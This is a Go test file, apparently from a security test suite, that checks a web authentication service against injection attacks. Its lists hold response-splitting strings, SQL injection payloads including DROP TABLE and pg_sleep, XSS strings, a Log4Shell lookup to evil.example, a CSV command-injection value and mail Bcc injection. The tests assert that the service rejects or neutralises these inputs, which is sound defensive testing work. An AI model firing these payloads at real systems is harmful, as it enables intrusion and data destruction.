package main

import (
	"fmt"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"time"
)

// injectionRows attack what stands behind the service, by what it is told.
func injectionRows() []row {
	return []row{
		{id: "39", attack: "response splitting", expected: "no new header or cookie", run: responseSplitting},
		{id: "72", attack: "SQL injection", expected: "400/401/404 in 1 s", run: sqlInjection},
		{id: "73", attack: "zero selector", expected: "400/401/404, nobody else hit", run: zeroSelector},
		{id: "79", attack: "HTML, mail and CSV injection", expected: "inert JSON (mail: not yet)", run: markup},
	}
}

// splitters end a header in some decoder.
func splitters() []string {
	injected := "X-Injected: yes"
	return []string{
		"a\r\n" + injected, "a\n" + injected, "a\r" + injected, "a%0d%0a" + injected, "a%0a" + injected, "a\\r\\n" + injected, "a\u560d\u560a" + injected,
		"a\u2028" + injected, "a\x00\r\n" + injected,
		"a\r\nSet-Cookie: injected=yes; Path=/", "a\u0085" + injected, "a\r\n\r\n<html>" + injected,
	}
}

func responseSplitting(c *check) {
	a := c.register()
	v := c.signIn(a)
	c.twin("a plain name", patchJSON(mePath, object("name", "Plain")).bearer(v.access), status(http.StatusOK))
	whole := func(name string, got answer) {
		injected := got.header.Get("X-Injected") != "" || strings.Contains(strings.Join(got.header.Values("Set-Cookie"), ","), "injected=")
		c.holds(name, !injected, "no new header", "X-Injected or a cookie")
		for header, values := range got.header {
			c.holds(name+" in "+header, !strings.Contains(strings.ToLower(strings.Join(values, "\n")), "x-injected"), "not repeated", header)
		}
	}
	for _, text := range splitters() {
		for _, field := range []string{"name", "photo", "username"} {
			whole(field, c.attack(fmt.Sprintf("%s %q", field, text), patchJSON(mePath, object(field, text)).bearer(v.access), status(200, 400)))
		}
		whole("login", c.attack(fmt.Sprintf("login %q", text), postJSON(loginPath, object("email", text, "password", "x")), status(400, 401).under(hashing)))
		whole("session id", c.attack(fmt.Sprintf("session id %q", text), remove(sessionsPath+"/"+url.PathEscape(text)).bearer(v.access), status(404)))
		whole("address", c.attack(fmt.Sprintf("address %q", text), get("/"+url.PathEscape(text)), status(404)))
		whole("query", c.attack(fmt.Sprintf("query %q", text), get(mePath+"?next="+url.QueryEscape(text)).bearer(v.access), status(200)))
		if printable(text) {
			for _, header := range []string{"X-Request-ID", "User-Agent", "Origin", "Accept", "Accept-Language"} {
				whole(header, c.attack(fmt.Sprintf("%s %q", header, text), get(mePath).bearer(v.access).with(header, text), status(200, 400, 403)))
			}
		}
	}
	whole("me after all that", c.attack("me after all that", get(mePath).bearer(v.access), status(http.StatusOK)))
}

// printable reports whether an HTTP client sends the text as a header.
func printable(s string) bool {
	return !strings.ContainsFunc(s, func(r rune) bool { return r < ' ' || r == 0x7f })
}

func sqlTexts() []string {
	return []string{
		"1=1", "' OR '1'='1", "' OR 1=1--", `" OR ""="`, "'; DROP TABLE users;--", "' UNION SELECT NULL,NULL,NULL--", "1; SELECT pg_sleep(5)--",
		"' || pg_sleep(5) || '", "'||(SELECT CASE WHEN 1=1 THEN pg_sleep(5) END)||'",
		"') OR ('1'='1", "admin'--", "%", "_", "*", "role='admin'", "\\'; --", "'\\''", "$1", "?", ":id", "@p1", "1' AND randomblob(500000000)--",
		"' AND 1=CAST((SELECT version()) AS int)--", "\u02bc OR 1=1--", "{{1=1}}", "'", "''", "\"", "`", "id",
	}
}

func sqlInjection(c *check) {
	a := c.register()
	v, other := c.signIn(a), c.signIn(c.victim)
	c.twin("the session list", get(sessionsPath).bearer(v.access), status(http.StatusOK))
	quick := func(statuses ...int) want { return status(statuses...).under(time.Second) }
	for _, text := range sqlTexts() {
		c.attack("session id "+text, remove(sessionsPath+"/"+url.PathEscape(text)).bearer(v.access), quick(404))
		c.attack("login email "+text, postJSON(loginPath, object("email", text, "password", text)), quick(400, 401).silent())
		c.attack("login username "+text, postJSON(loginPath, object("username", text, "password", a.password)), quick(400, 401).silent())
		c.attack("login quoted email "+text, postJSON(loginPath, object("email", text+"@example.com", "password", a.password)), quick(400, 401).silent())
		c.attack("username "+text, patchJSON(mePath, object("username", text)).bearer(v.access), quick(400))
		q := url.QueryEscape(text)
		list := c.attack("query "+text, get(sessionsPath+"?sort="+q+"&order="+q+"&limit="+q+"&cursor="+q+"&id="+q+"&user_id="+q).bearer(v.access), quick(200, 400))
		c.holds("query "+text+": sessions seen", len(list.envelope().Data.Sessions) <= 1, "one's own", strconv.Itoa(len(list.envelope().Data.Sessions)))
		got := c.attack("name "+text, patchJSON(mePath, object("name", text)).bearer(v.access), quick(200, 400))
		c.holds("name "+text+": stored", got.status != http.StatusOK || got.user().Name == text, text, got.user().Name)
		c.attack("token "+text, get(mePath).bearer(text), quick(401))
		c.attack("user agent "+text, get(mePath).bearer(v.access).with("User-Agent", text, "X-Request-ID", text, "X-Forwarded-For", text), quick(200))
	}
	c.untouched(other)
	c.alive(v)
}

// zeroSelector names nobody and nothing: the answer must not be the first row, or all.
func zeroSelector(c *check) {
	v, other, foreign := c.signIn(c.victim), c.signIn(c.victim), c.signIn(c.attacker)
	c.twin("one of several sessions", get(sessionsPath).bearer(v.access), status(http.StatusOK))
	for _, id := range []string{"", "null", "undefined", "0", "-1", "00000000-0000-0000-0000-000000000000", "%00", "%20", "me", "current", "all", "*", "true", "[]", "{}", ":id", "%7Bid%7D"} {
		for _, of := range []*session{v, foreign} {
			c.attack("session "+id, remove(sessionsPath+"/"+id).bearer(of.access), status(404, 405))
		}
	}
	password := quote(c.victim.password)
	for name, body := range map[string]string{
		"email null": `{"email":null,"password":` + password + `}`, "email empty": `{"email":"","password":` + password + `}`,
		"email missing": `{"password":` + password + `}`, "email 0": `{"email":0,"password":` + password + `}`,
		"username empty": `{"username":"","password":` + password + `}`, "username null": `{"username":null,"password":` + password + `}`,
		"all empty": `{"email":"","username":"","password":""}`, "empty": `{}`,
		"password null":  `{"email":` + quote(c.victim.email) + `,"password":null}`,
		"password empty": `{"email":` + quote(c.victim.email) + `,"password":""}`, "password 0": `{"email":` + quote(c.victim.email) + `,"password":0}`,
		"email and username empty": `{"email":` + quote(c.victim.email) + `,"username":"","password":""}`,
	} {
		c.attack("login, "+name, postJSON(loginPath, body), status(400, 401).silent().under(hashing))
	}
	for _, token := range []string{"", "null", "undefined", "0", "..", "e30.e30.", "e30.e30.e30", "bnVsbA.bnVsbA.bnVsbA"} {
		c.attack("access "+token, get(mePath).cookie(c.accessLine(token)), status(401))
		c.attack("Bearer "+token, get(mePath).bearer(token), status(401))
		c.attack("refresh "+token, post(refreshPath).cookie(c.refreshLine(token)), status(401))
		c.attack("logout "+token, post(logoutPath).cookie(c.refreshLine(token)+"; "+c.accessLine(token)), status(200, 401))
	}
	if c.keys.access != nil {
		c.zeroClaims(v)
	}
	c.untouched(v)
	c.untouched(other)
	c.untouched(foreign)
}

// zeroClaims signs tokens that name nobody.
func (c *check) zeroClaims(v *session) {
	for _, k := range c.kinds(v) {
		k.wanted.codes = append(k.wanted.codes, "session_revoked", "user_gone")
		for _, zero := range []string{`""`, `null`, `0`, ``, `"00000000-0000-0000-0000-000000000000"`} {
			c.refuse(k, forged{"sub and sid " + zero, k.good.withClaim("sub", zero).withClaim("sid", zero).signed(k.key)})
		}
	}
}

// markup: what a user writes comes back as data in JSON that no browser takes for a page.
func markup(c *check) {
	a := c.register()
	v := c.signIn(a)
	c.twin("a plain name", patchJSON(mePath, object("name", "Plain")).bearer(v.access), status(http.StatusOK))
	for _, text := range []string{
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "https://evil.example/reset", "{{.}}",
		"{{constructor.constructor('alert(1)')()}}", "${jndi:ldap://evil.example/a}", "=1+1", "+1", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0",
		"Victim\r\nBcc: other@evil.example", "Victim\nSubject: x", "=?utf-8?q?Bcc?=", "\"><svg/onload=alert(1)>",
	} {
		for _, field := range []string{"name", "photo"} {
			got := c.attack(fmt.Sprintf("%s %q", field, text), patchJSON(mePath, object(field, text)).bearer(v.access), status(200, 400))
			if strings.ContainsAny(text, "\r\n") {
				c.holds(fmt.Sprintf("%s %q", field, text), got.status == http.StatusBadRequest, "400: no line breaks", got.String())
			}
			media := got.header.Get("Content-Type")
			c.holds("Content-Type", strings.HasPrefix(media, "application/json") && got.header.Get("X-Content-Type-Options") == "nosniff", "JSON, nosniff", media)
			c.holds("Content-Security-Policy", strings.Contains(got.header.Get("Content-Security-Policy"), "default-src 'none'"), "default-src 'none'", got.header.Get("Content-Security-Policy"))
		}
	}
}
